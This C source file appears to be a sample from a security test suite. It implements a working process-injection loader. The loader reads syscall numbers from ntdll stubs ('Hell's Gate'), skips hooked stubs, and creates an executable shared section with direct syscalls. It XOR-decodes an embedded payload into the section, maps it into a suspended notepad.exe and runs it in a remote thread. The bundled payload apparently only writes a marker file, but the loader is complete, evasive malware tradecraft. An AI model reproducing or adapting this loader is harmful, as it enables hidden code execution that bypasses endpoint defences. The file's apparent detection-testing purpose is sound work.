/*
 * injector.c - generality suite: mapping injection by system calls (benign, emulator-only; see
 * ../../lineage-common/common.h), as loaders that avoid both WriteProcessMemory and user-mode
 * hooks do it.
 *
 * Reads the system service numbers of NtCreateSection, NtMapViewOfSection and NtCreateThreadEx
 * from ntdll's stubs (Hell's Gate) and, with its own `syscall` instruction: creates a
 * paging-file section (PAGE_EXECUTE_READWRITE, SEC_COMMIT), maps a read-write view of it in its
 * own process, XOR-decodes the payload embedded in its data into that view (one-byte key 0x6b),
 * maps a read-execute view of the same section into C:\Windows\System32\notepad.exe (started
 * suspended with CreateProcessA) and runs that view there in a new thread. The payload's
 * parameter block goes the same way, in the section after the code.
 * The payload (../lineage-common/payload.c) writes C:\Users\Public\lineage_mapinject.txt.
 * Exit codes: 0 ok, 1 no marker, 2 process, 3 no system call numbers, 4 section, 5 thread.
 */
#include "common.h"
#include "payload.h"

typedef LONG NTSTATUS_T;
DWORD ssn_value; /* read by do_syscall */

/* mov r10, rcx; mov eax, <number>; syscall; ret: arguments 5 and up are where the kernel reads them */
__asm__(".text\n"
        ".globl do_syscall\n"
        "do_syscall:\n"
        "  mov %rcx, %r10\n"
        "  mov ssn_value(%rip), %eax\n"
        "  syscall\n"
        "  ret\n");
NTSTATUS_T do_syscall(ULONG_PTR, ULONG_PTR, ULONG_PTR, ULONG_PTR, ULONG_PTR, ULONG_PTR, ULONG_PTR, ULONG_PTR,
                      ULONG_PTR, ULONG_PTR, ULONG_PTR);

static int number_of(HMODULE ntdll, const char *name, DWORD *number)
{
    const unsigned char *stub = (const unsigned char *)GetProcAddress(ntdll, name);
    if (!stub || stub[0] != 0x4C || stub[1] != 0x8B || stub[2] != 0xD1 || stub[3] != 0xB8)
        return 0; /* no stub, or a hooked one */
    *number = *(const DWORD *)(stub + 4);
    return 1;
}

static NTSTATUS_T sys(DWORD number, ULONG_PTR a, ULONG_PTR b, ULONG_PTR c, ULONG_PTR d, ULONG_PTR e, ULONG_PTR f,
                      ULONG_PTR g, ULONG_PTR h, ULONG_PTR i, ULONG_PTR j, ULONG_PTR k)
{
    ssn_value = number;
    return do_syscall(a, b, c, d, e, f, g, h, i, j, k);
}

#define SECTION_SIZE 0x2000
#define CTX_OFFSET 0x1000
#define VIEW_UNMAP 2

void Entry(void)
{
    static char cmd[] = "C:\\Windows\\System32\\notepad.exe";
    STARTUPINFOA si;
    PROCESS_INFORMATION pi;
    unsigned char *si_bytes = (unsigned char *)&si;
    DWORD n_section, n_map, n_thread, i;
    HANDLE section = 0, thread = 0;
    LARGE_INTEGER max_size;
    unsigned char *local = 0, *remote = 0;
    SIZE_T view;
    HMODULE ntdll;

    if (!marker_present())
        ExitProcess(1);
    ntdll = GetModuleHandleA("ntdll.dll");
    if (!number_of(ntdll, "NtCreateSection", &n_section) || !number_of(ntdll, "NtMapViewOfSection", &n_map) ||
        !number_of(ntdll, "NtCreateThreadEx", &n_thread))
        ExitProcess(3);
    for (i = 0; i < sizeof(si); i++)
        si_bytes[i] = 0;
    si.cb = sizeof(si);
    if (!CreateProcessA(0, cmd, 0, 0, FALSE, CREATE_SUSPENDED, 0, 0, &si, &pi))
        ExitProcess(2);
    max_size.QuadPart = SECTION_SIZE;
    if (sys(n_section, (ULONG_PTR)&section, SECTION_ALL_ACCESS, 0, (ULONG_PTR)&max_size, PAGE_EXECUTE_READWRITE,
            SEC_COMMIT, 0, 0, 0, 0, 0) != 0 || !section)
        ExitProcess(4);
    view = 0;
    if (sys(n_map, (ULONG_PTR)section, (ULONG_PTR)-1, (ULONG_PTR)&local, 0, 0, 0, (ULONG_PTR)&view, VIEW_UNMAP, 0,
            PAGE_READWRITE, 0) != 0 || !local)
        ExitProcess(4);
    for (i = 0; i < sizeof(payload_enc); i++)
        local[i] = payload_enc[i] ^ 0x6b;
    fill_ctx((struct sc_ctx *)(local + CTX_OFFSET), "C:\\Users\\Public\\lineage_mapinject.txt", "mapped into another process\n");
    view = 0;
    if (sys(n_map, (ULONG_PTR)section, (ULONG_PTR)pi.hProcess, (ULONG_PTR)&remote, 0, 0, 0, (ULONG_PTR)&view, VIEW_UNMAP,
            0, PAGE_EXECUTE_READ, 0) != 0 || !remote)
        ExitProcess(4);
    if (sys(n_thread, (ULONG_PTR)&thread, THREAD_ALL_ACCESS, 0, (ULONG_PTR)pi.hProcess, (ULONG_PTR)remote,
            (ULONG_PTR)(remote + CTX_OFFSET), 0, 0, 0, 0, 0) != 0 || !thread)
        ExitProcess(5);
    WaitForSingleObject(thread, INFINITE);
    CloseHandle(thread);
    CloseHandle(pi.hThread);
    CloseHandle(pi.hProcess);
    ExitProcess(0);
}
